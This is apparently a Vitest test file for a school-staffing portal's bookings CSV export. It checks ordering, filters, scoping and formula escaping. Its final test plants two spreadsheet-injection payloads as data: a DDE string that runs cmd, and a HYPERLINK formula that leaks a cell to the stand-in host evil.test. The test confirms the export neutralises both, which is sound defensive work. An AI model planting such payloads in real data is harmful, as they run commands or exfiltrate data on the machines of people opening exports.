import { describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { queryRows } from '@portal/db/client';
import { BOOKING_SORTS, BookingsResponse, type BookingListRow } from '@portal/contract/bookings';
import { cell, expectSameRefusal, readCsvAnswer, useExportTestApp, type ExportAccount } from '../../../test/csv-client';
import { EXPORT_BATCH_SIZE } from '../../lib/csv-export';
import { BOOKING_CSV_COLUMNS } from './booking-export';

/** GET /v1/bookings with Accept: text/csv: every booking of the list's filters, in the list's order. */

const x = useExportTestApp();
const TODAY = x.today;
const csv = x.csv;
const jsonBookings = (url: string, email: ExportAccount) => x.pages(url, email, (body) => BookingsResponse.parse(body));

function expectSameBookings(rows: Record<string, string>[], json: BookingListRow[]) {
  expect(rows.length).toBe(json.length);
  expect(rows.map((r) => Number(r['Booking ID']))).toEqual(json.map((b) => b.id));
  rows.forEach((row, n) => {
    const b = json[n]!;
    expect(row).toEqual({
      'Booking ID': String(b.id),
      Date: b.dateLocal,
      Start: b.startTimeLocal,
      End: b.endTimeLocal,
      'Break (minutes)': String(b.breakMinutes),
      'Time zone': b.timeZone,
      School: b.client.name,
      Location: b.location.name,
      Classification: b.classification.onlineTitle,
      Status: b.status,
      Educator: cell(b.candidate?.fullName),
      'Educator ID': cell(b.candidate?.id),
      'Series reference': cell(b.seriesReference),
      'Series position': cell(b.seriesPosition),
      'Series total': cell(b.seriesTotal),
      Covering: cell(b.covering?.name),
      'Unfilled risk (minutes left)': cell(b.unfilledRisk?.minutesLeft),
    });
  });
}

async function expectExportMatchesList(url: string, email: ExportAccount = 'group.admin') {
  const json = await jsonBookings(url, email);
  const { header, rows } = readCsvAnswer(await csv(url, email), 'bookings', TODAY);
  expect(header).toEqual(BOOKING_CSV_COLUMNS.map((c) => c.header));
  expectSameBookings(rows, json);
  return rows;
}

describe('GET /v1/bookings as CSV', () => {
  it('answers every booking the list pages through, across keyset pages, in every sort', { timeout: 120_000 }, async () => {
    // Every booking by date; the other orders over a quarter. Both are more rows than a keyset page, so the pages'
    // seams are crossed (and the educator order's bookings without one, which sort last).
    for (const sort of BOOKING_SORTS) {
      const window = sort === 'date' ? '' : '&dateFromLocal=2025-12-15&dateToLocal=2026-03-31';
      const rows = await expectExportMatchesList(`/v1/bookings?sort=${encodeURIComponent(sort)}${window}`);
      expect(rows.length, sort).toBeGreaterThan(EXPORT_BATCH_SIZE);
    }
  });

  it('puts the bookings at unfilled risk first as the list does, and only them when asked', async () => {
    const rows = await expectExportMatchesList(`/v1/bookings?dateFromLocal=${TODAY}&sort=-date`);
    const risky = rows.filter((r) => r['Unfilled risk (minutes left)'] !== '');
    expect(risky.length).toBeGreaterThan(0);
    expect(rows.slice(0, risky.length)).toEqual(risky);
    const only = await expectExportMatchesList(`/v1/bookings?unfilledRisk=true`);
    expect(only.map((r) => r['Booking ID'])).toEqual(risky.map((r) => r['Booking ID']));
  });

  it('respects the filters shown (dates, statuses, location, educator) and ignores skip and take', async () => {
    const [some] = await jsonBookings(`/v1/bookings?status=filled&dateFromLocal=${TODAY}`, 'group.admin');
    const filters = [
      `dateFromLocal=2026-02-01&dateToLocal=2026-02-28&status=completed&status=cancelled`,
      `locationId=${some!.location.id}&sort=status`,
      `candidateId=${some!.candidate!.id}&sort=-date`,
      `clientIds=${some!.client.id}&sort=location&skip=3&take=1`,
    ];
    for (const query of filters) {
      const rows = await expectExportMatchesList(`/v1/bookings?${query.replace(/&skip=3&take=1$/, '')}`);
      expect(rows.length, query).toBeGreaterThan(0);
      if (query.includes('skip=3')) {
        expect(readCsvAnswer(await csv(`/v1/bookings?${query}`, 'group.admin'), 'bookings', TODAY).rows).toEqual(rows);
      }
    }
    const february = readCsvAnswer(await csv(`/v1/bookings?${filters[0]}`, 'group.admin'), 'bookings', TODAY).rows;
    for (const row of february) {
      expect(row.Date! >= '2026-02-01' && row.Date! <= '2026-02-28').toBe(true);
      expect(['completed', 'cancelled']).toContain(row.Status);
    }
  });

  it('is scoped as the list: booking view only sees its schools, and a caller without it gets the list’s 403', async () => {
    await expectExportMatchesList('/v1/bookings', 'bookings.viewer');
    expectSameRefusal(await csv('/v1/bookings', 'finance'), await x.json('/v1/bookings', 'finance'));
  });

  it('writes a location and a covered teacher’s name that a spreadsheet would run as formulas as text', async () => {
    const [target] = await jsonBookings(`/v1/bookings?dateFromLocal=${TODAY}&status=unfilled`, 'group.admin');
    const location = '@SUM(1+1)*cmd|" /C calc"!A0';
    const covering = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
    const [before] = await queryRows<{ name: string; covering_name: string | null }>(
      x.t().database.db,
      sql`select l.name, r.covering_name from bookings b join locations l on l.id = b.location_id
          join booking_requests r on r.id = b.request_id where b.id = ${target!.id}`,
    );
    await x.t().database.db.execute(sql`update locations set name = ${location} where id = ${target!.location.id}`);
    await x.t().database.db.execute(sql`update booking_requests set covering_name = ${covering} where id = ${target!.requestId}`);
    try {
      const url = `/v1/bookings?locationId=${target!.location.id}`;
      const json = await jsonBookings(url, 'group.admin');
      const { rows } = readCsvAnswer(await csv(url, 'group.admin'), 'bookings', TODAY);
      expect(rows.map((r) => Number(r['Booking ID']))).toEqual(json.map((b) => b.id));
      // The JSON answers the names as they are; the CSV writes them as text a spreadsheet shows and does not run.
      expect(json.find((b) => b.id === target!.id)!.covering?.name).toBe(covering);
      const row = rows.find((r) => Number(r['Booking ID']) === target!.id)!;
      expect(row.Covering).toBe(`'${covering}`);
      for (const r of rows) expect(r.Location).toBe(`'${location}`);
    } finally {
      await x.t().database.db.execute(sql`update locations set name = ${before!.name} where id = ${target!.location.id}`);
      await x
        .t()
        .database.db.execute(sql`update booking_requests set covering_name = ${before!.covering_name} where id = ${target!.requestId}`);
    }
  });
});
